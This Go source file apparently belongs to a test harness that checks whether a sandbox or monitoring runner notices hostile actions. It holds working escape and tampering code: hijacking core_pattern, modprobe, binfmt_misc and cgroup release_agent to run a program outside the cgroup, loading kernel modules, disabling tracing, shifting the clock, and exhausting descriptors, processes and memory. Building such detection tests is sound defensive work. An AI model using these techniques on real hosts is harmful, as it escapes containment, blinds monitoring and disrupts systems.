//go:build linux

package main

import (
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

var onKernel = []attack{
	{name: "core_pattern", what: "core_pattern names a program, a child crashes: the program acts outside", do: corePattern, rude: true},
	{name: "modprobe", what: "the path of modprobe changed, an unknown file executed: the program acts outside", do: modprobe, rude: true},
	{name: "binfmt_misc", what: "an interpreter for all ELF files registered: it would run in the place of the last test call", do: binfmt, rude: true},
	{name: "release_agent", what: "a v1 hierarchy mounted, release_agent names a program that acts outside", do: releaseAgent, rude: true},
	{name: "uevent_helper", what: "uevent_helper names a program", do: func(*world) error { return write("/sys/kernel/uevent_helper", "/bin/true") }, rude: true},
	{name: "kernel module", what: "loads a kernel module", do: module, rude: true},
	{name: "kexec", what: "kexec_load of nothing", do: func(*world) error {
		if _, _, e := unix.Syscall6(unix.SYS_KEXEC_LOAD, 0, 0, 0, 0, 0, 0); e != 0 {
			return fmt.Errorf("kexec_load: %w", e)
		}
		return nil
	}, rude: true},
	{name: "dev mem", what: "opens /dev/mem for writing", do: devMem, rude: true},
	{name: "ports", what: "gets the right to use I/O ports", do: func(*world) error {
		if runtime.GOARCH != "amd64" {
			return errors.New("iopl: " + unix.ENOSYS.Error())
		}
		if _, _, e := unix.RawSyscall(172, 3, 0, 0); e != 0 {
			return fmt.Errorf("iopl: %w", e)
		}
		return nil
	}},
	{name: "debugfs", what: "opens a file of debugfs for writing", do: debugfs, rude: true},
	{name: "sysrq", what: "writes h to /proc/sysrq-trigger", do: func(*world) error { return write("/proc/sysrq-trigger", "h") }, rude: true},
	{name: "tracing off", what: "tracing_on, all events of tracefs and ftrace_enabled set to 0", do: tracingOff, rude: true},
	{name: "clock", what: "sets the clock a year ahead and back, and adjusts it", do: clock, rude: true, flag: []string{"--times"}},
	{name: "drop caches", what: "drops the caches", do: func(*world) error { return write("/proc/sys/vm/drop_caches", "3") }, rude: true},
	{name: "bpf statistics", what: "sets kernel.bpf_stats_enabled, perf_event_paranoid and ns_last_pid", do: sysctls, rude: true},
	{name: "ask an outsider", what: "a program outside of the cgroup does what a file asks it to", do: outsider, blind: "s2_blind_spots"},
}

// place is where a program of our own can be run by the kernel.
func place(w *world, args string) string {
	self, _ := os.Readlink("/proc/self/exe")
	p := w.dir + "/helper"
	os.WriteFile(p, []byte("#!/bin/sh\nexec "+self+" "+args+" "+w.dir+"\n"), 0o755)
	return p
}

func awaited(w *world) error {
	for range 40 {
		if _, err := os.Stat(w.dir + "/open-outside"); err == nil {
			return nil
		}
		time.Sleep(50 * time.Millisecond)
	}
	return errors.New("the program was not run")
}

func corePattern(w *world) error {
	const file = "/proc/sys/kernel/core_pattern"
	old, _ := os.ReadFile(file)
	if err := write(file, "|"+place(w, "_helper")); err != nil {
		return err
	}
	defer write(file, strings.TrimSpace(string(old)))
	c := exec.Command("/bin/sh", "-c", "ulimit -c unlimited; kill -SEGV $$")
	c.Run()
	return awaited(w)
}

func modprobe(w *world) error {
	const file = "/proc/sys/kernel/modprobe"
	old, _ := os.ReadFile(file)
	if err := write(file, place(w, "_helper")); err != nil {
		return err
	}
	defer write(file, strings.TrimSpace(string(old)))
	odd := w.dir + "/odd"
	os.WriteFile(odd, []byte{0xff, 0xfe, 0xfd, 0xfc, 0, 0, 0, 0}, 0o755)
	exec.Command(odd).Run()
	unix.Socket(44, unix.SOCK_STREAM, 0)
	return awaited(w)
}

// binfmt registers this program as the interpreter of all ELF files of this machine.
func binfmt(w *world) error {
	const dir = "/proc/sys/fs/binfmt_misc"
	if _, err := os.Stat(dir + "/register"); err != nil {
		if err := mount("binfmt_misc", dir, "binfmt_misc", 0, ""); err != nil {
			return err
		}
	}
	self, _ := os.Readlink("/proc/self/exe")
	os.WriteFile("/tmp/hostile-dir", []byte(w.dir), 0o600)
	exe := fmt.Sprintf("/proc/%d/exe", w.stages["runner-capture"])
	f, err := os.Open(exe)
	if err != nil {
		return err
	}
	defer f.Close()
	head := make([]byte, 64)
	f.Read(head)
	magic := ""
	for _, b := range head[:32] {
		magic += fmt.Sprintf("\\x%02x", b)
	}
	// F: opened now, so that the interpreter itself is not interpreted.
	if err := write(dir+"/register", ":hostile:M:0:"+magic+"::"+self+":F"); err != nil {
		return err
	}
	c := exec.Command("/bin/sh", "-c", "true")
	c.Start()
	return nil
}

// canary is what this program does when it is run in the place of the runner's test call.
func canary(args []string) bool {
	at := -1
	for i, a := range args {
		if a == "--canary" {
			at = i
		}
	}
	if at < 0 || at+1 >= len(args) {
		return false
	}
	b, _ := os.ReadFile("/tmp/hostile-dir")
	act(string(b), "canary")
	unix.Open(args[at+1], unix.O_RDONLY|unix.O_CLOEXEC, 0)
	return true
}

func releaseAgent(w *world) error {
	dir := w.dir + "/v1"
	os.Mkdir(dir, 0o755)
	if err := mount("cgroup", dir, "cgroup", 0, "none,name=hostile"); err != nil {
		return err
	}
	defer unix.Unmount(dir, unix.MNT_DETACH)
	if err := write(dir+"/release_agent", place(w, "_helper")); err != nil {
		return err
	}
	os.Mkdir(dir+"/x", 0o755)
	write(dir+"/x/notify_on_release", "1")
	c := exec.Command("/bin/sh", "-c", "echo $$ >"+dir+"/x/cgroup.procs")
	if err := c.Run(); err != nil {
		return err
	}
	return awaited(w)
}

// outside acts outside of the measured cgroup: as a helper that the kernel starts, or as a
// thread that left.
func outside(args []string) {
	dir := args[len(args)-1]
	if args[0] == "_helper" {
		for _, a := range args {
			if strings.Contains(a, "hostile-") {
				dir = a
			}
		}
		act(dir, "outside")
		return
	}
	dir = args[1]
	go func() {
		runtime.LockOSThread()
		time.Sleep(100 * time.Millisecond)
		other := args[3] + "/hostile-away"
		os.Mkdir(other, 0o755)
		write(other+"/cgroup.procs", fmt.Sprint(os.Getpid()))
		act(dir, "outside")
		os.Exit(0)
	}()
	runtime.LockOSThread()
	unix.Syscall(unix.SYS_EXIT, 0, 0, 0) // the main thread only
}

func module(*world) error {
	files, _ := filepath.Glob("/mod/*.ko")
	last := errors.New("finit_module: there is no module here")
	for _, name := range files {
		f, err := os.Open(name)
		if err != nil {
			return err
		}
		err = unix.FinitModule(int(f.Fd()), "", 0)
		f.Close()
		if err == nil {
			return nil
		}
		last = fmt.Errorf("finit_module: %w", err)
	}
	return last
}

func devMem(*world) error {
	fd, err := unix.Open("/dev/mem", unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("open /dev/mem: %w", err)
	}
	return unix.Close(fd)
}

func debugfs(*world) error {
	const dir = "/sys/kernel/debug"
	if err := mount("debugfs", dir, "debugfs", 0, ""); err != nil && !errors.Is(err, unix.EBUSY) {
		return err
	}
	last := errors.New("no file of debugfs can be written")
	filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if err == nil && last != nil && d.Type().IsRegular() && !strings.Contains(path, "tracing") {
			fd, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
			if err == nil {
				unix.Close(fd)
				last = nil
				return filepath.SkipAll
			}
			last = fmt.Errorf("open: %w", err)
		}
		return nil
	})
	return last
}

func clock(w *world) error {
	var now unix.Timespec
	unix.ClockGettime(unix.CLOCK_REALTIME, &now)
	then := now
	then.Sec += 365 * 86400
	if err := unix.ClockSettime(unix.CLOCK_REALTIME, &then); err != nil {
		return fmt.Errorf("clock_settime: %w", err)
	}
	act(w.dir, "hidden")
	unix.Adjtimex(&unix.Timex{Modes: 0x4000, Tick: 10500})
	time.Sleep(50 * time.Millisecond)
	unix.Adjtimex(&unix.Timex{Modes: 0x4000, Tick: 10000})
	return unix.ClockSettime(unix.CLOCK_REALTIME, &now)
}

func sysctls(*world) error {
	return errors.Join(write("/proc/sys/kernel/bpf_stats_enabled", "1"), write("/proc/sys/kernel/perf_event_paranoid", "4"),
		write("/proc/sys/kernel/ns_last_pid", "5000"), write("/proc/sys/kernel/bpf_stats_enabled", "0"))
}

// outsider asks the check itself, which is outside of the cgroup.
func outsider(w *world) error {
	os.WriteFile(w.dir+"/please", []byte(w.dir), 0o600)
	return awaited(w)
}

var onResources = []attack{
	{name: "fill the ring", what: "200,000 opens by four threads with the smallest ring", do: storm(50000), flag: []string{"--ring-size", "4K"}},
	{name: "fill the disk", what: "runner-normalize stopped, 100,000 opens with 64 KiB of space for temporary files", do: fillSpool, flag: []string{"--spool-size", "64K"}},
	{name: "flood the log", what: "20 MB without a line end written into the policy log", do: floodLog, flag: rules},
	{name: "descriptors", what: "sets fs.file-max to 1000 and opens 100,000 files", do: descriptors, rude: true, slow: true},
	{name: "processes", what: "sets kernel.pid_max to 1500 and forks until the kernel refuses", do: processes, rude: true, slow: true},
	{name: "memory", what: "takes memory until the OOM killer comes", do: memory, rude: true, slow: true},
	{name: "inotify", what: "takes all inotify instances", do: inotify, rude: true, slow: true},
}

func storm(n int) func(*world) error {
	return func(w *world) error {
		done := make(chan bool)
		for range 4 {
			go func() {
				for range n {
					unix.Open(w.dir+"/none", unix.O_RDONLY, 0)
				}
				done <- true
			}()
		}
		for range 4 {
			<-done
		}
		return nil
	}
}

func fillSpool(w *world) error {
	if w.stages["runner-normalize"] == 0 {
		return errors.New("runner-normalize is not visible")
	}
	if err := unix.Kill(w.stages["runner-normalize"], unix.SIGSTOP); err != nil {
		return fmt.Errorf("kill: %w", err)
	}
	err := storm(25000)(w)
	time.Sleep(200 * time.Millisecond)
	unix.Kill(w.stages["runner-normalize"], unix.SIGCONT)
	return err
}

func floodLog(*world) error {
	log := os.Getenv("ASSAY_RUNNER_POLICY_DECISION_LOG")
	fd, err := unix.Open(log, unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("open the log %s: %w", log, err)
	}
	b := make([]byte, 1<<20)
	for range 20 {
		if _, err := unix.Write(fd, b); err != nil {
			return err
		}
	}
	return nil
}

func descriptors(w *world) error {
	const file = "/proc/sys/fs/file-max"
	old, _ := os.ReadFile(file)
	refused := write(file, "1000")
	defer write(file, strings.TrimSpace(string(old)))
	l := unix.Rlimit{Cur: 1 << 20, Max: 1 << 20}
	unix.Prlimit(0, unix.RLIMIT_NOFILE, &l, nil)
	var fds []int
	for {
		fd, err := unix.Open("/dev/null", unix.O_RDONLY, 0)
		if err != nil || len(fds) > 100000 {
			break
		}
		fds = append(fds, fd)
	}
	time.Sleep(300 * time.Millisecond)
	for _, fd := range fds {
		unix.Close(fd)
	}
	return refused
}

func processes(*world) error {
	const file = "/proc/sys/kernel/pid_max"
	old, _ := os.ReadFile(file)
	err := write(file, "1500")
	defer write(file, strings.TrimSpace(string(old)))
	var list []*exec.Cmd
	for len(list) < 1500 {
		c := exec.Command("/bin/sleep", "60")
		if c.Start() != nil {
			break
		}
		list = append(list, c)
	}
	time.Sleep(300 * time.Millisecond)
	for _, c := range list {
		c.Process.Kill()
		c.Wait()
	}
	return err
}

func memory(*world) error {
	return fmt.Errorf("the program that took it: %w", exec.Command("/proc/self/exe", "_hog").Run())
}

// hog takes memory until it is killed.
func hog() {
	var all [][]byte
	for {
		b := make([]byte, 16<<20)
		for i := 0; i < len(b); i += 4096 {
			b[i] = 1
		}
		all = append(all, b)
		if len(all) > 1<<20 {
			return
		}
	}
}

func inotify(*world) error {
	var fds []int
	for {
		fd, err := unix.InotifyInit1(0)
		if err != nil {
			break
		}
		fds = append(fds, fd)
	}
	time.Sleep(100 * time.Millisecond)
	for _, fd := range fds {
		unix.Close(fd)
	}
	return nil
}

var ordinary = []attack{
	{name: "ordinary bpf", what: "a map and a socket filter of its own", do: harmlessBPF, only: true},
	{name: "ordinary tracing", what: "a child of its own traced, killed and written by process_vm_writev", do: ownChild, only: true},
	{name: "ordinary look", what: "reads /proc of all processes, lists their descriptors, signals nobody", do: lookAround, only: true},
	{name: "ordinary container", what: "a private mount namespace with proc, sysfs and tmpfs, a cgroup below its own, oom_score_adj", do: container, only: true},
	{name: "ordinary network", what: "connects to itself", do: selfConnect, only: true},
}

func ownChild(w *world) error {
	runtime.LockOSThread()
	c := exec.Command("/proc/self/exe", "_late", w.dir, "child")
	if err := c.Start(); err != nil {
		return err
	}
	pid := c.Process.Pid
	time.Sleep(50 * time.Millisecond)
	if err := ptrace(unix.PTRACE_SEIZE, pid, 0, 0); err != nil {
		return err
	}
	at, err := heap(pid)
	if err != nil {
		return err
	}
	b := make([]byte, 8)
	local := []unix.Iovec{{Base: &b[0], Len: 8}}
	remote := []unix.RemoteIovec{{Base: at, Len: 8}}
	unix.ProcessVMReadv(pid, local, remote, 0)
	_, err = unix.ProcessVMWritev(pid, local, remote, 0)
	c.Process.Kill()
	c.Wait()
	return err
}

func lookAround(*world) error {
	pids, _ := filepath.Glob("/proc/[0-9]*")
	for _, p := range pids {
		for _, f := range []string{"/stat", "/status", "/cmdline", "/environ", "/maps", "/cgroup"} {
			os.ReadFile(p + f)
		}
		os.ReadDir(p + "/fd")
	}
	unix.Kill(os.Getppid(), 0)
	return nil
}

func container(w *world) error {
	child := w.scope + "/box"
	if err := os.Mkdir(child, 0o755); err != nil {
		return err
	}
	defer os.Remove(child)
	write("/proc/self/oom_score_adj", "100")
	script := fmt.Sprintf("echo $$ >%s/cgroup.procs; mkdir -p %s/r && mount -t tmpfs t %s/r && mkdir %s/r/proc %s/r/sys && mount -t proc p %s/r/proc && mount -t sysfs s %s/r/sys; echo 1 >/proc/sys/net/ipv4/ip_forward", child, w.dir, w.dir, w.dir, w.dir, w.dir, w.dir)
	c := exec.Command("/bin/sh", "-c", script)
	c.SysProcAttr = &syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWNS | unix.CLONE_NEWPID | unix.CLONE_NEWNET | unix.CLONE_NEWIPC | unix.CLONE_NEWUTS}
	return c.Run()
}

func selfConnect(*world) error {
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		return err
	}
	defer l.Close()
	c, err := net.Dial("tcp4", l.Addr().String())
	if err == nil {
		c.Close()
	}
	return err
}
